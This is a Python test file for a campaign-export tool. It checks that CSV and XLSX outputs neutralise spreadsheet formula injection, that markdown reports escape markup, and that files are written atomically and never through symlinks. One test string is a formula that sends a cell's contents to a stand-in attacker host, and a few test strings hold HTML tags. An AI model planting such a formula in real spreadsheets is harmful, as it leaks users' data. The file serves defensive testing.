"""Nothing from params runs in a spreadsheet or a page, and the campaign files are written like
every other output: atomically, never through a link, all or nothing with the stage's reports."""

from __future__ import annotations

import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from oneclick.core import writers
from oneclick.core.errors import DataError
from oneclick.core.escaping import formula_safe, markdown_text
from oneclick.segment import export
from tests.conftest import ROOT

HOSTILE = '=HYPERLINK("http://evil.invalid/?c="&A2;"click")'
TEXTS = [HOSTILE, "+7 (495) 123-45-67", "-20% на категорию", "@SUM(A1:A9)", "\tx", "plain"]


def campaign() -> pd.DataFrame:
    n = len(TEXTS)
    return pd.DataFrame(
        {"id": range(1, n + 1), "Прибыль": [-1.5] * n, "Текст предложения 1": TEXTS}
    )


def test_xlsx_text_cells_are_text_whatever_they_start_with(tmp_path: Path) -> None:
    path = tmp_path / "campaign.xlsx"
    export.write_xlsx({"Кампания": campaign()}, path)
    sheet = openpyxl.load_workbook(path)["Кампания"]
    texts = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in texts] == TEXTS  # exactly as typed, the `=` included
    assert {c.data_type for c in texts} == {"s"}
    assert sheet.cell(2, 2).value == -1.5  # numbers stay numbers
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula anywhere


def test_csv_fields_that_would_run_as_formulas_get_an_apostrophe(tmp_path: Path) -> None:
    path = tmp_path / "campaign.csv"
    export.write_csv_ru(campaign(), path)
    read = pd.read_csv(path, sep=";", decimal=",", encoding="utf-8-sig", keep_default_na=False)
    assert read["Текст предложения 1"].tolist() == [
        "'" + HOSTILE,
        "'+7 (495) 123-45-67",
        "'-20% на категорию",
        "'@SUM(A1:A9)",
        "'\tx",
        "plain",
    ]
    assert read["Прибыль"].tolist() == [-1.5] * len(TEXTS)  # a negative number is no formula
    assert formula_safe(-1.5) == -1.5 and formula_safe("20% off") == "20% off"


def test_markdown_text_escapes_markup_and_line_breaks() -> None:
    text = "a | b *bold* [x](http://e.invalid) <img src=x> `code`\nnext row"
    assert markdown_text(text) == (
        r"a \| b \*bold\* \[x\](http://e.invalid) \<img src=x\> \`code\` next row"
    )
    assert markdown_text("Скидка 20% (любимая категория)") == "Скидка 20% (любимая категория)"


def test_segment_report_and_page_show_a_hostile_offer_code_as_text() -> None:
    from oneclick.segment import markdown

    rows = markdown.table(["offer", "customers"], [["<script>x</script>|*", "3"]])
    assert rows[-1] == r"| \<script\>x\</script\>\|\* | 3 |"


def test_outcomes_report_escapes_a_hostile_feature_name() -> None:
    from oneclick.campaign import report

    assert report._feature("promo_share").startswith("`promo_share`")
    assert report._feature("x`<b>|") == r"x\`\<b\>\|"


# Atomic, no-follow, all or nothing: the campaign files as every other writer's.


def test_campaign_files_are_not_written_through_a_link(tmp_path: Path) -> None:
    precious = tmp_path / "dvc.lock"
    precious.write_bytes(b"schema: '2.0'\n")
    for name, write in (
        ("campaign.csv", lambda p: export.write_csv_ru(campaign(), p)),
        ("campaign.xlsx", lambda p: export.write_xlsx({"Кампания": campaign()}, p)),
    ):
        link = tmp_path / name
        link.symlink_to(precious)
        with pytest.raises(DataError, match="is a symbolic link; not following it"):
            write(link)
    assert precious.read_bytes() == b"schema: '2.0'\n"


def test_a_later_failure_in_the_block_leaves_no_new_campaign_file(tmp_path: Path) -> None:
    """The segment stage writes the campaign files and its reports in one together() block."""
    old = {name: f"old {name}\n".encode() for name in ("campaign.csv", "campaign.xlsx", "r.md")}
    for name, data in old.items():
        (tmp_path / name).write_bytes(data)
    with pytest.raises(DataError, match="late"), writers.together():
        export.write_csv_ru(campaign(), tmp_path / "campaign.csv")
        export.write_xlsx({"Кампания": campaign()}, tmp_path / "campaign.xlsx")
        raise DataError("late failure while rendering the reports")
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == old


# A simulated full disk (as tests/core/test_writers.py): a file-size limit in a child process.
FULL_DISK = textwrap.dedent(
    """
    import resource, signal, sys
    from pathlib import Path
    import pandas as pd
    from oneclick.core import entry
    from oneclick.segment import export

    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))
    table = pd.DataFrame({"id": range(20_000), "Текст": ["Скидка в любимой категории"] * 20_000})
    path = Path(sys.argv[1])
    if path.suffix == ".xlsx":
        entry.run(lambda: export.write_xlsx({"Кампания": table}, path))
    entry.run(lambda: export.write_csv_ru(table, path))
    """
)


@pytest.mark.parametrize("name", ["campaign.csv", "campaign.xlsx"])
def test_campaign_file_on_a_full_disk_keeps_the_previous_one(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    old = b"earlier campaign;\r\n" * 500  # below the limit
    path.write_bytes(old)
    run = subprocess.run(
        [sys.executable, "-c", FULL_DISK, str(path)], cwd=ROOT, capture_output=True, text=True
    )
    assert run.returncode == 2, run.stderr
    assert run.stderr.splitlines() == [
        f"error: {path}: cannot write: file too large (file size limit reached); "
        "the previous file is unchanged"
    ]
    assert path.read_bytes() == old
    assert [p.name for p in tmp_path.iterdir()] == [name]
